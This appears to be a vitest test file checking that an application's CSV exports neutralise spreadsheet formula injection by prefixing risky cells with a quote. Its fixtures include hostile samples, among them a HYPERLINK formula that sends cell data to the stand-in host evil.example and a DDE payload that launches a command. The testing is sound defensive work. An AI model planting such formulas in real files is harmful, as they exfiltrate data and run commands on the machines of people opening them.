import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeRowsFile } from '../../api/adapters/bi-export/row-file.ts';
import { spreadsheetText, writeCsv } from '../../api/adapters/export/csv-writer.ts';
import { importJobSchema } from '../../api/contracts/imports.ts';
import { PEOPLE, startTestServer, waitForImport, type TestServer } from '../api/helpers.ts';
import { readExport } from '../powerbi/read-export.ts';

/** OWASP's list: what a spreadsheet takes for the start of a formula. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Details")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const HARMLESS = ['Contoso', "'quoted already", ' =not first', 'a=b', ''];

const dir = mkdtempSync(join(tmpdir(), 'cl-formula-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('spreadsheetText', () => {
  it('prefixes exactly the cells a spreadsheet would run', () => {
    for (const text of FORMULAS) expect(spreadsheetText(text)).toBe(`'${text}`);
    for (const text of HARMLESS) expect(spreadsheetText(text)).toBe(text);
  });
});

describe('the CSV writer', () => {
  const records = FORMULAS.map((text, i) => ({ InvoiceNumber: `INV-${i}`, ActivityName: text, EventTime: Date.UTC(2024, 2, 1), CustomerName: text, InvoiceAmount: -12.5 }));

  it('neutralises text cells when the file is for a spreadsheet, never numbers', async () => {
    const path = join(dir, 'safe.csv');
    await writeCsv(records, path, { spreadsheetSafe: true, columns: ['InvoiceNumber', 'ActivityName', 'EventTime', 'CustomerName', 'InvoiceAmount'] });
    const lines = readFileSync(path, 'utf8').split('\n');
    expect(lines[1]).toBe(`INV-0,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Details"")",2024-03-01T00:00:00Z,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Details"")",-12.5`);
    expect(lines[3]).toBe("INV-2,'-2+3,2024-03-01T00:00:00Z,'-2+3,-12.5");
    expect(lines[5]).toMatch(/^INV-4,'\t=1\+1,/);
  });

  it('leaves event-log files for re-import as written (the importer never evaluates a cell)', async () => {
    const path = join(dir, 'plain.csv');
    await writeCsv(records, path, { columns: ['InvoiceNumber', 'ActivityName', 'EventTime'] });
    expect(readFileSync(path, 'utf8').split('\n')[3]).toBe('INV-2,-2+3,2024-03-01T00:00:00Z');
  });
});

describe('export files (Power BI and Excel)', () => {
  it('CSV text columns are neutralised, doubles are not, and Parquet keeps the value as it is', async () => {
    const columns = [
      { name: 'Name', type: 'string' as const, required: false, description: '' },
      { name: 'Amount', type: 'double' as const, required: false, description: '' },
      { name: 'Count', type: 'int64' as const, required: false, description: '' },
    ];
    const rows = [...FORMULAS, ...HARMLESS].map((text, i) => [text, -12.5 - i, -i]);
    const csvPath = join(dir, 'rows.csv');
    await writeRowsFile(columns, rows, 'csv', csvPath);
    const csv = await readExport(new Response(readFileSync(csvPath)), 'csv');
    expect(csv.rows.map((r) => r.Name)).toEqual([...FORMULAS.map((t) => `'${t}`), ...HARMLESS]);
    expect(csv.rows.map((r) => r.Amount)).toEqual(rows.map((r) => String(r[1])));
    expect(csv.rows[2].Count).toBe('-2');

    const parquetPath = join(dir, 'rows.parquet');
    await writeRowsFile(columns, rows, 'parquet', parquetPath);
    const parquet = await readExport(new Response(readFileSync(parquetPath)), 'parquet');
    expect(parquet.rows.map((r) => r.Name)).toEqual([...FORMULAS, ...HARMLESS].map((t) => (t === '' ? '' : t)));
  });

  describe('through the API', () => {
    let server: TestServer;
    let executive: string;
    let logId = '';

    beforeAll(async () => {
      server = await startTestServer({ UPLOADS_PER_HOUR: '1000' });
      executive = await server.token(PEOPLE.executive.user, 'executive');
      const header = 'InvoiceNumber,ActivityName,EventTime,CustomerName,CollectorName,InvoiceAmount,InvoiceCurrency';
      const q = (text: string) => `"${text.replaceAll('"', '""')}"`;
      const rows = [
        `INV-1,Invoice Posted,2024-03-01T09:00:00Z,${q(FORMULAS[0])},${q('@Jessica')},-12.5,USD`,
        `INV-1,${q('+Call customer')},2024-03-05T09:00:00Z,${q(FORMULAS[0])},${q('@Jessica')},-12.5,USD`,
        'INV-2,Invoice Posted,2024-03-02T09:00:00Z,Contoso,Jessica Alvarez,250,USD',
      ];
      const response = await fetch(`${server.url}/api/logs?file=injection.csv&name=Injection`, {
        method: 'POST',
        headers: { authorization: `Bearer ${executive}`, 'content-type': 'text/csv' },
        body: `${header}\n${rows.join('\n')}\n`,
      });
      const job = importJobSchema.parse(await waitForImport(server, executive, (await response.json()).id));
      expect(job.status).toBe('succeeded');
      logId = job.logId!;
    });
    afterAll(() => server?.stop());

    it('cases.csv and events.csv (copied by DuckDB from the store)', async () => {
      const cases = await readExport(await server.get(`/api/exports/cases.csv?log=${logId}`, executive), 'csv');
      const one = cases.rows.find((r) => r.InvoiceNumber === 'INV-1')!;
      expect(one.CustomerName).toBe(`'${FORMULAS[0]}`);
      expect(one.CollectorName).toBe("'@Jessica");
      expect(one.InvoiceAmount).toBe('-12.5');
      expect(cases.rows.find((r) => r.InvoiceNumber === 'INV-2')!.CustomerName).toBe('Contoso');

      const events = await readExport(await server.get(`/api/exports/events.csv?log=${logId}`, executive), 'csv');
      expect(events.rows.map((r) => r.Activity)).toContain("'+Call customer");

      const parquet = await readExport(await server.get(`/api/exports/cases.parquet?log=${logId}`, executive), 'parquet');
      expect(parquet.rows.find((r) => r.InvoiceNumber === 'INV-1')!.CustomerName).toBe(FORMULAS[0]);
    });

    it('team_members.csv (rows written from JavaScript)', async () => {
      const team = await server.send('PUT', `/api/teams/${encodeURIComponent('=Evil team')}`, executive, { manager: 'Karen Whitfield', members: ['Jessica Alvarez'] });
      expect(team.status).toBe(201);
      const members = await readExport(await server.get('/api/exports/team_members.csv', executive), 'csv');
      const teams = new Set(members.rows.map((r) => r.CreditTeam));
      expect(teams).toContain("'=Evil team");
      expect(teams).not.toContain('=Evil team');
    });
  });
});
